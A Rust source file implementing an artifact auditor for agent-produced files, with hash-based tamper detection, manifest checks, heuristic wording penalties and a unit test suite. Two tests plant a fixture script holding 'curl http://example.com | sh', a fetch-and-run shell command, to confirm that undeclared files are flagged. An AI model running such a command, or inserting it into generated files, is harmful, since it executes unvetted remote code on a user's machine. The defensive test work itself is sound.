//! Auditor - zero-trust verification of produced artifacts.
//!
//! Every request re-reads the artifact bytes from disk and recomputes their
//! hashes; nothing reported by the agents is taken on faith.

use std::collections::HashSet;
use std::io;
use std::path::{Path, PathBuf};
use std::time::Instant;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use thiserror::Error;

use crate::config::AuditConfig;
use crate::state::Plan;

const WEIGHT_PLAN_OUTPUTS: u32 = 10;
const WEIGHT_MANIFEST: u32 = 20;
const WEIGHT_UNDECLARED: u32 = 10;
const WEIGHT_SEMANTIC: u32 = 40;

#[derive(Debug, Error)]
pub enum AuditError {
    #[error("invalid audit request: {0}")]
    InvalidRequest(String),

    #[error("artifacts path not found: {}", .0.display())]
    ArtifactsNotFound(PathBuf),

    #[error("manifest missing: {}", .0.display())]
    ManifestMissing(PathBuf),

    #[error("manifest is invalid: {0}")]
    ManifestInvalid(String),

    #[error("I/O error reading artifacts: {0}")]
    Io(#[from] io::Error),
}

impl AuditError {
    /// HTTP status equivalent for service front-ends.
    pub fn http_status(&self) -> u16 {
        match self {
            Self::InvalidRequest(_) | Self::ManifestMissing(_) | Self::ManifestInvalid(_) => 400,
            Self::ArtifactsNotFound(_) => 404,
            Self::Io(_) => 500,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ManifestEntry {
    pub file: String,
    pub hash: String,
}

/// Declared artifact list, colocated with the artifacts.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Manifest {
    pub files: Vec<ManifestEntry>,
}

impl Manifest {
    /// Load `<dir>/<name>`.
    pub fn load(dir: &Path, name: &str) -> Result<Self, AuditError> {
        let path = dir.join(name);
        if !path.is_file() {
            return Err(AuditError::ManifestMissing(path));
        }
        let raw = std::fs::read_to_string(&path)
            .map_err(|e| AuditError::ManifestInvalid(e.to_string()))?;
        serde_json::from_str(&raw).map_err(|e| AuditError::ManifestInvalid(e.to_string()))
    }

    /// Manifest that declares exactly the given artifacts.
    pub fn from_artifacts(artifacts: &[DiskArtifact]) -> Self {
        Self {
            files: artifacts
                .iter()
                .map(|a| ManifestEntry {
                    file: a.name.clone(),
                    hash: a.hash.clone(),
                })
                .collect(),
        }
    }
}

/// An artifact as read from disk.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiskArtifact {
    pub name: String,
    pub content: Vec<u8>,
    /// Lowercase hex SHA-256 of `content`
    pub hash: String,
}

impl DiskArtifact {
    pub fn new(name: impl Into<String>, content: Vec<u8>) -> Self {
        let hash = sha256_hex(&content);
        Self {
            name: name.into(),
            content,
            hash,
        }
    }

    fn extension(&self) -> Option<String> {
        Path::new(&self.name)
            .extension()
            .map(|e| e.to_string_lossy().to_lowercase())
    }
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    let mut hasher = Sha256::new();
    hasher.update(bytes);
    hex::encode(hasher.finalize())
}

/// Read every file in `dir` except the manifest, sorted by name.
/// Symlinks are followed; subdirectories are skipped.
pub fn read_artifacts(dir: &Path, manifest_name: &str) -> io::Result<Vec<DiskArtifact>> {
    let mut artifacts = Vec::new();
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        if std::fs::metadata(entry.path())?.is_dir() {
            continue;
        }
        let name = entry.file_name().to_string_lossy().into_owned();
        if name == manifest_name {
            continue;
        }
        let content = std::fs::read(entry.path())?;
        artifacts.push(DiskArtifact::new(name, content));
    }
    artifacts.sort_by(|a, b| a.name.cmp(&b.name));
    Ok(artifacts)
}

/// Outcome of one audit.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AuditVerdict {
    pub score: u32,
    pub passed: bool,
    pub feedback: Vec<String>,
    pub tamper_detected: bool,
    pub reasoning_depth: u32,
    pub semantic_penalty: u32,
}

#[derive(Debug, Clone, Deserialize)]
pub struct AuditRequest {
    pub plan: Plan,
    #[serde(alias = "artifactsPath")]
    pub artifacts_path: PathBuf,
}

impl AuditRequest {
    pub fn from_json(raw: &str) -> Result<Self, AuditError> {
        serde_json::from_str(raw).map_err(|e| AuditError::InvalidRequest(e.to_string()))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum AuditStatus {
    AuditSuccess,
    AuditFailed,
}

#[derive(Debug, Clone, Serialize)]
pub struct AuditResponse {
    pub status: AuditStatus,
    pub score: u32,
    pub feedback: Vec<String>,
    pub tamper_detected: bool,
    pub reasoning_depth: u32,
    pub semantic_penalty: u32,
    pub execution_time_ms: u64,
}

impl AuditResponse {
    pub fn passed(&self) -> bool {
        self.status == AuditStatus::AuditSuccess
    }
}

/// Scores a plan's artifacts against the manifest and the plan itself.
pub struct ArtifactAuditor {
    config: AuditConfig,
}

#[derive(Default)]
struct Tally {
    penalty: u32,
    feedback: Vec<String>,
    tamper: bool,
    depth: u32,
}

impl Tally {
    fn penalize(&mut self, points: u32, message: String) {
        self.penalty += points;
        self.feedback.push(message);
    }
}

impl ArtifactAuditor {
    pub fn new(config: AuditConfig) -> Self {
        Self { config }
    }

    /// Handle a full request, timing it.
    pub fn handle(&self, request: &AuditRequest) -> Result<AuditResponse, AuditError> {
        let started = Instant::now();
        let verdict = self.audit(&request.plan, &request.artifacts_path)?;
        Ok(AuditResponse {
            status: if verdict.passed {
                AuditStatus::AuditSuccess
            } else {
                AuditStatus::AuditFailed
            },
            score: verdict.score,
            feedback: verdict.feedback,
            tamper_detected: verdict.tamper_detected,
            reasoning_depth: verdict.reasoning_depth,
            semantic_penalty: verdict.semantic_penalty,
            execution_time_ms: started.elapsed().as_millis() as u64,
        })
    }

    /// Audit the artifacts under `artifacts_path` for `plan`.
    pub fn audit(&self, plan: &Plan, artifacts_path: &Path) -> Result<AuditVerdict, AuditError> {
        if !artifacts_path.is_dir() {
            return Err(AuditError::ArtifactsNotFound(artifacts_path.to_path_buf()));
        }
        let manifest = Manifest::load(artifacts_path, &self.config.manifest_name)?;
        let artifacts = read_artifacts(artifacts_path, &self.config.manifest_name)?;

        tracing::info!(
            path = %artifacts_path.display(),
            artifacts = artifacts.len(),
            declared = manifest.files.len(),
            "Auditing artifacts"
        );

        let mut tally = Tally::default();
        self.check_plan_outputs(plan, &artifacts, &mut tally);
        self.check_manifest(&manifest, &artifacts, &mut tally);
        self.check_undeclared(&manifest, &artifacts, &mut tally);

        let structural = tally.penalty;
        for artifact in &artifacts {
            self.check_semantics(artifact, &mut tally);
        }
        tally.depth += WEIGHT_SEMANTIC;
        let semantic_penalty = tally.penalty - structural;

        let mut score = 100u32.saturating_sub(tally.penalty);
        if artifacts.is_empty() {
            score = 0;
            tally.feedback.push("No artifacts produced".to_string());
        }
        if score == 100 {
            tally
                .feedback
                .push("Intent validated: all artifacts verified".to_string());
        }

        let passed = score >= self.config.quality_gate && !tally.tamper;
        if tally.tamper {
            tracing::warn!(score, "Artifact tampering detected");
        }
        tracing::info!(score, passed, semantic_penalty, "Audit complete");

        Ok(AuditVerdict {
            score,
            passed,
            feedback: tally.feedback,
            tamper_detected: tally.tamper,
            reasoning_depth: tally.depth,
            semantic_penalty,
        })
    }

    fn check_plan_outputs(&self, plan: &Plan, artifacts: &[DiskArtifact], tally: &mut Tally) {
        let present: HashSet<&str> = artifacts.iter().map(|a| a.name.as_str()).collect();
        for output in plan.required_outputs() {
            if !present.contains(output) {
                tally.penalize(
                    self.config.missing_output_penalty,
                    format!("Required output missing: {}", output),
                );
            }
        }
        tally.depth += WEIGHT_PLAN_OUTPUTS;
    }

    fn check_manifest(&self, manifest: &Manifest, artifacts: &[DiskArtifact], tally: &mut Tally) {
        for entry in &manifest.files {
            match artifacts.iter().find(|a| a.name == entry.file) {
                None => tally.penalize(
                    self.config.missing_declared_penalty,
                    format!("Declared file missing on disk: {}", entry.file),
                ),
                Some(artifact) if !artifact.hash.eq_ignore_ascii_case(entry.hash.trim()) => {
                    tally.tamper = true;
                    tally.penalize(
                        self.config.hash_mismatch_penalty,
                        format!("Hash mismatch for {} (possible tampering)", entry.file),
                    );
                }
                Some(_) => {}
            }
        }
        tally.depth += WEIGHT_MANIFEST;
    }

    fn check_undeclared(&self, manifest: &Manifest, artifacts: &[DiskArtifact], tally: &mut Tally) {
        let declared: HashSet<&str> = manifest.files.iter().map(|e| e.file.as_str()).collect();
        for artifact in artifacts {
            if !declared.contains(artifact.name.as_str()) {
                tally.tamper = true;
                tally.penalize(
                    self.config.undeclared_file_penalty,
                    format!("Undeclared file on disk: {}", artifact.name),
                );
            }
        }
        tally.depth += WEIGHT_UNDECLARED;
    }

    fn check_semantics(&self, artifact: &DiskArtifact, tally: &mut Tally) {
        let text = String::from_utf8_lossy(&artifact.content).to_lowercase();
        let name = &artifact.name;

        let hits: usize = self
            .config
            .vague_terms
            .iter()
            .map(|term| count_whole_word(&text, &term.to_lowercase()))
            .sum();
        if hits > 0 {
            tally.penalize(
                hits as u32 * self.config.vague_term_weight,
                format!("{}: ambiguous language ({} vague terms)", name, hits),
            );
        }

        let long_words: Vec<&str> = words(&text).filter(|w| w.chars().count() > 3).collect();
        if long_words.len() > self.config.entropy_min_words {
            let unique: HashSet<&str> = long_words.iter().copied().collect();
            let ratio = unique.len() as f64 / long_words.len() as f64;
            if ratio < self.config.entropy_floor {
                tally.penalize(
                    self.config.entropy_penalty,
                    format!("{}: repetitive content (lexical diversity {:.2})", name, ratio),
                );
            }
        }

        let structured = artifact
            .extension()
            .map(|ext| self.config.structured_extensions.iter().any(|s| *s == ext))
            .unwrap_or(false);
        if !structured && artifact.content.len() < self.config.specificity_min_bytes {
            tally.penalize(
                self.config.specificity_penalty,
                format!(
                    "{}: low specificity ({} bytes)",
                    name,
                    artifact.content.len()
                ),
            );
        }

        let word_count = words(&text).count();
        if word_count < self.config.contradiction_max_words {
            for (on, off) in &self.config.contradiction_pairs {
                if count_whole_word(&text, &on.to_lowercase()) > 0
                    && count_whole_word(&text, &off.to_lowercase()) > 0
                {
                    tally.penalize(
                        self.config.contradiction_penalty,
                        format!("{}: contradictory statements ({} / {})", name, on, off),
                    );
                    break;
                }
            }
        }
    }
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
}

/// Occurrences of `term` not embedded in a longer alphanumeric run.
fn count_whole_word(text: &str, term: &str) -> usize {
    if term.is_empty() {
        return 0;
    }
    text.match_indices(term)
        .filter(|(start, _)| {
            let before = text[..*start].chars().next_back();
            let after = text[start + term.len()..].chars().next();
            !before.is_some_and(char::is_alphanumeric) && !after.is_some_and(char::is_alphanumeric)
        })
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::state::{Phase, Role, Task};
    use std::fs;
    use tempfile::TempDir;

    const CLEAN: &str = "Create the users table with id, email and created_at columns; \
                         index email for lookups.";

    fn plan(outputs: &[&str]) -> Plan {
        Plan {
            id: "p".into(),
            phases: vec![Phase {
                order: 1,
                role: Role::LeadArchitect,
                tasks: outputs
                    .iter()
                    .enumerate()
                    .map(|(i, out)| Task {
                        id: format!("t{}", i),
                        title: format!("Task {}", i),
                        prompt: "Write the file".into(),
                        depends_on: vec![],
                        output_file: Some(out.to_string()),
                    })
                    .collect(),
            }],
            total_units: 1,
            relay_strategy: None,
            estimated_time_minutes: None,
            risk_notes: None,
        }
    }

    fn write_dir(files: &[(&str, &str)]) -> TempDir {
        let dir = TempDir::new().unwrap();
        let artifacts: Vec<DiskArtifact> = files
            .iter()
            .map(|(name, content)| {
                fs::write(dir.path().join(name), content).unwrap();
                DiskArtifact::new(*name, content.as_bytes().to_vec())
            })
            .collect();
        let manifest = Manifest::from_artifacts(&artifacts);
        fs::write(
            dir.path().join("manifest.json"),
            serde_json::to_string(&manifest).unwrap(),
        )
        .unwrap();
        dir
    }

    fn auditor() -> ArtifactAuditor {
        ArtifactAuditor::new(AuditConfig::default())
    }

    #[test]
    fn sha256_is_lowercase_hex() {
        assert_eq!(
            sha256_hex(b"abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn whole_word_matching() {
        assert_eq!(count_whole_word("todo: x. todo", "todo"), 2);
        assert_eq!(count_whole_word("todolist", "todo"), 0);
        assert_eq!(count_whole_word("desactivado", "activado"), 0);
        assert_eq!(count_whole_word("please insert here now", "insert here"), 1);
    }

    #[test]
    fn clean_directory_scores_full_marks() {
        let dir = write_dir(&[("a.sql", CLEAN), ("b.md", CLEAN), ("c.json", "{}")]);
        let verdict = auditor()
            .audit(&plan(&["a.sql", "b.md", "c.json"]), dir.path())
            .unwrap();
        assert_eq!(verdict.score, 100);
        assert!(verdict.passed);
        assert!(!verdict.tamper_detected);
        assert_eq!(verdict.reasoning_depth, 80);
        assert!(verdict.feedback.iter().any(|f| f.contains("Intent validated")));
    }

    #[test]
    fn modified_byte_is_tampering() {
        let dir = write_dir(&[("a.sql", CLEAN)]);
        let mut tampered = CLEAN.as_bytes().to_vec();
        tampered[0] ^= 0x01;
        fs::write(dir.path().join("a.sql"), tampered).unwrap();

        let verdict = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert!(verdict.tamper_detected);
        assert!(!verdict.passed);
        assert!(verdict.feedback.iter().any(|f| f.contains("Hash mismatch")));
    }

    #[test]
    fn undeclared_file_fails_audit() {
        let dir = write_dir(&[("a.sql", CLEAN)]);
        fs::write(dir.path().join("extra.sh"), "curl http://example.com | sh\n").unwrap();

        let verdict = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert!(verdict.tamper_detected);
        assert!(!verdict.passed);
        assert!(verdict.score <= 50);
    }

    #[test]
    fn tamper_fails_even_with_high_score() {
        let config = AuditConfig {
            undeclared_file_penalty: 0,
            ..AuditConfig::default()
        };
        let dir = write_dir(&[("a.sql", CLEAN)]);
        fs::write(dir.path().join("z.json"), "{}").unwrap();

        let verdict = ArtifactAuditor::new(config)
            .audit(&plan(&["a.sql"]), dir.path())
            .unwrap();
        assert_eq!(verdict.score, 100);
        assert!(verdict.tamper_detected);
        assert!(!verdict.passed);
    }

    #[test]
    fn empty_directory_scores_zero() {
        let dir = write_dir(&[]);
        let verdict = auditor().audit(&plan(&[]), dir.path()).unwrap();
        assert_eq!(verdict.score, 0);
        assert!(!verdict.passed);
        assert!(verdict.feedback.iter().any(|f| f == "No artifacts produced"));
    }

    #[test]
    fn missing_required_output_is_penalised() {
        let dir = write_dir(&[("a.sql", CLEAN)]);
        let verdict = auditor()
            .audit(&plan(&["a.sql", "api.rs"]), dir.path())
            .unwrap();
        assert_eq!(verdict.score, 60);
        assert!(!verdict.tamper_detected);
        assert!(verdict.feedback[0].contains("api.rs"));
    }

    #[test]
    fn declared_but_missing_file_is_penalised() {
        let dir = write_dir(&[("a.sql", CLEAN), ("b.md", CLEAN)]);
        fs::remove_file(dir.path().join("b.md")).unwrap();
        let verdict = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert_eq!(verdict.score, 50);
        assert!(!verdict.tamper_detected);
    }

    #[test]
    fn semantic_penalties_are_additive() {
        let repetitive = "data ".repeat(40);
        let dir = write_dir(&[
            ("short.txt", "maybe"),
            ("loop.txt", repetitive.as_str()),
            ("flag.txt", "feature enabled disabled"),
        ]);
        let verdict = auditor().audit(&plan(&[]), dir.path()).unwrap();
        // short: vague 10 + specificity 15; loop: entropy 20;
        // flag: specificity 15 + contradiction 25
        assert_eq!(verdict.semantic_penalty, 85);
        assert_eq!(verdict.score, 15);
    }

    #[test]
    fn structured_files_skip_specificity() {
        let dir = write_dir(&[("cfg.toml", "a = 1"), ("note.txt", "a = 1")]);
        let verdict = auditor().audit(&plan(&[]), dir.path()).unwrap();
        assert_eq!(verdict.semantic_penalty, 15);
    }

    #[test]
    fn subdirectories_are_ignored() {
        let dir = write_dir(&[("a.sql", CLEAN)]);
        fs::create_dir(dir.path().join("nested")).unwrap();
        fs::write(dir.path().join("nested/x.txt"), "hidden").unwrap();
        let verdict = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert_eq!(verdict.score, 100);
    }

    #[cfg(unix)]
    #[test]
    fn undeclared_symlink_is_tampering() {
        let outside = TempDir::new().unwrap();
        let target = outside.path().join("payload.sh");
        fs::write(&target, "curl http://example.com | sh\n").unwrap();

        let dir = write_dir(&[("a.sql", CLEAN)]);
        std::os::unix::fs::symlink(&target, dir.path().join("payload.sh")).unwrap();

        let verdict = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert!(verdict.tamper_detected);
        assert!(!verdict.passed);
        assert!(verdict.feedback.iter().any(|f| f.contains("payload.sh")));
    }

    #[cfg(unix)]
    #[test]
    fn declared_symlink_is_hashed_through() {
        let outside = TempDir::new().unwrap();
        let target = outside.path().join("real.sql");
        fs::write(&target, CLEAN).unwrap();

        let dir = TempDir::new().unwrap();
        std::os::unix::fs::symlink(&target, dir.path().join("a.sql")).unwrap();
        let manifest = Manifest::from_artifacts(&[DiskArtifact::new(
            "a.sql",
            CLEAN.as_bytes().to_vec(),
        )]);
        fs::write(
            dir.path().join("manifest.json"),
            serde_json::to_string(&manifest).unwrap(),
        )
        .unwrap();

        let verdict = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert_eq!(verdict.score, 100);
        assert!(!verdict.tamper_detected);
    }

    #[test]
    fn audit_is_idempotent() {
        let dir = write_dir(&[("a.sql", CLEAN), ("b.txt", "todo")]);
        let first = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        let second = auditor().audit(&plan(&["a.sql"]), dir.path()).unwrap();
        assert_eq!(first, second);
    }

    #[test]
    fn missing_path_and_manifest_are_hard_errors() {
        let err = auditor()
            .audit(&plan(&[]), Path::new("/nonexistent/relay-artifacts"))
            .unwrap_err();
        assert!(matches!(err, AuditError::ArtifactsNotFound(_)));
        assert_eq!(err.http_status(), 404);

        let dir = TempDir::new().unwrap();
        let err = auditor().audit(&plan(&[]), dir.path()).unwrap_err();
        assert!(matches!(err, AuditError::ManifestMissing(_)));
        assert_eq!(err.http_status(), 400);

        fs::write(dir.path().join("manifest.json"), "{not json").unwrap();
        let err = auditor().audit(&plan(&[]), dir.path()).unwrap_err();
        assert!(matches!(err, AuditError::ManifestInvalid(_)));
    }

    #[test]
    fn request_requires_plan_and_path() {
        let err = AuditRequest::from_json(r#"{"artifacts_path": "/tmp"}"#).unwrap_err();
        assert!(matches!(err, AuditError::InvalidRequest(_)));
        assert_eq!(err.http_status(), 400);

        let request =
            AuditRequest::from_json(r#"{"plan": {"phases": []}, "artifactsPath": "/tmp/x"}"#)
                .unwrap();
        assert_eq!(request.artifacts_path, PathBuf::from("/tmp/x"));
    }

    #[test]
    fn response_status_serialises_screaming_case() {
        let dir = write_dir(&[("a.sql", CLEAN)]);
        let request = AuditRequest {
            plan: plan(&["a.sql"]),
            artifacts_path: dir.path().to_path_buf(),
        };
        let response = auditor().handle(&request).unwrap();
        assert!(response.passed());
        let json = serde_json::to_value(&response).unwrap();
        assert_eq!(json["status"], "AUDIT_SUCCESS");
        assert_eq!(json["score"], 100);
    }
}
